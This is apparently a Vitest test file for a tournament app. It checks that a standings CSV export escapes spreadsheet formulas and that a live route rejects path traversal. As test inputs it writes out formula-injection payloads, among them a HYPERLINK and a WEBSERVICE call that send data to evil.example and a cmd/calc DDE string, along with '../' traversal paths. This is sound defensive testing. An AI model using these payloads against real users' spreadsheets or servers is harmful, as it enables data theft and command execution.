/**
 * Issue #12 "CSV" and "Live route" on real Postgres:
 * - the standings CSV (GET /api/events/:id/standings) quotes fields with , ; " or newlines and puts
 *   a ' before every field or `;`-separated part a spreadsheet would run as a formula, while names
 *   like Jean-Luc stay as typed;
 * - GET /api/events/:id/live/:page serves only pairings, clock and standings: any other page
 *   (another route, a `../` traversal as Next.js decodes `..%2F`, a nested live path) is a 404
 *   answered without fetching anything.
 */
import { describe, expect, it, vi } from "vitest";
import Papa from "papaparse";
import { useTestDatabase } from "./db";
import { makeEvent, must } from "./fixtures";

await useTestDatabase();

describe("standings CSV cells are safe in Excel (comma and semicolon locales)", () => {
  it("formula payloads in team and duelist names get a leading '; Jean-Luc and O'Brien stay; ; and , fields are quoted", async () => {
    const ev = await makeEvent("csvsafe");
    const teams = [
      { name: '=HYPERLINK("http://evil.example/?d="&A1,"Standings")', a: "Jean-Luc", b: "O'Brien" },
      { name: 'Dragons;=WEBSERVICE("http://evil.example")', a: "+cmd|' /C calc'!A0", b: "@SUM(1+1)" },
      { name: "Smith, Jones & Co", a: "Anne-Marie", b: "-2+3" },
      { name: "Blue Eyes", a: "Ana", b: "Bruno;-1+1" },
    ];
    for (const t of teams) await must("registerTeam", ev.judge, { eventId: ev.eventId, name: t.name, a: { name: t.a }, b: { name: t.b } });
    const { GET } = await import("@/app/api/events/[id]/standings/route");
    const res = await GET(new Request("http://x/", { headers: { "accept-language": "it" } }), {
      params: Promise.resolve({ id: ev.eventId }),
    });
    const text = (await res.text()).replace(/^\uFEFF/, "");
    expect(text).toContain('"\'=HYPERLINK(""http://evil.example/?d=""&A1,""Standings"")",Jean-Luc,O\'Brien,');
    expect(text).toContain('"Dragons;\'=WEBSERVICE(""http://evil.example"")","\'+cmd|\' /C calc\'!A0","\'@SUM(1+1)",');
    expect(text).toContain('"Smith, Jones & Co",Anne-Marie,"\'-2+3",');
    expect(text).toContain(',Blue Eyes,Ana,"Bruno;\'-1+1",');
    const rows = Papa.parse<Record<string, string>>(text.trim(), { header: true, newline: "\r\n" }).data;
    expect(rows.map((r) => r.team).sort()).toEqual([
      '\'=HYPERLINK("http://evil.example/?d="&A1,"Standings")',
      "Blue Eyes",
      'Dragons;\'=WEBSERVICE("http://evil.example")',
      "Smith, Jones & Co",
    ]);
    // Read the way Excel it/pt-BR splits it: no cell begins with a formula character.
    for (const cell of Papa.parse<string[]>(text.trim(), { delimiter: ";", newline: "\r\n" }).data.flat())
      expect(cell.replace(/^"/, "")).not.toMatch(/^[=+\-@\t\r]/);
  });
});

describe("live route serves only its three pages", () => {
  it("404 without fetching for another page, a ../ traversal in page or event id, or a nested live path; the 3 pages render", async () => {
    const ev = await makeEvent("liveroute");
    const { GET } = await import("@/app/api/events/[id]/live/[page]/route");
    const fetchSpy = vi.spyOn(globalThis, "fetch");
    try {
      for (const page of [
        "admin",
        "../admin",
        "../../../api/events/x/version",
        "pairings/../admin",
        "live/pairings",
        "..",
        "Pairings",
        "pairings ",
      ]) {
        const res = await GET(new Request(`http://127.0.0.1:1/api/events/${ev.eventId}/live/x`), {
          params: Promise.resolve({ id: ev.eventId, page }),
        });
        expect(res.status, page).toBe(404);
        expect(res.headers.get("cache-control")).toBe("no-store");
      }
      // Event ids as Next.js decodes them: `%2e%2e` is "..", `x%2F..` is "x/.." (the fetched path would leave /events/<id>/).
      for (const id of ["..", ".", "x/..", "../..", "..\\admin", `${ev.eventId}/..`, ""]) {
        const res = await GET(new Request(`http://127.0.0.1:1/api/events/x/live/pairings`), {
          params: Promise.resolve({ id, page: "pairings" }),
        });
        expect(res.status, id).toBe(404);
      }
      expect(fetchSpy).not.toHaveBeenCalled();
      fetchSpy.mockResolvedValue(new Response("<html>pairings</html>", { status: 200, headers: { "content-type": "text/html" } }));
      const ok = await GET(new Request(`http://127.0.0.1:1/api/events/${ev.eventId}/live/pairings`), {
        params: Promise.resolve({ id: ev.eventId, page: "pairings" }),
      });
      expect(ok.status).toBe(200);
      expect(String(fetchSpy.mock.calls[0][0])).toMatch(new RegExp(`/events/${ev.eventId}/pairings$`));
    } finally {
      fetchSpy.mockRestore();
    }
  });
});
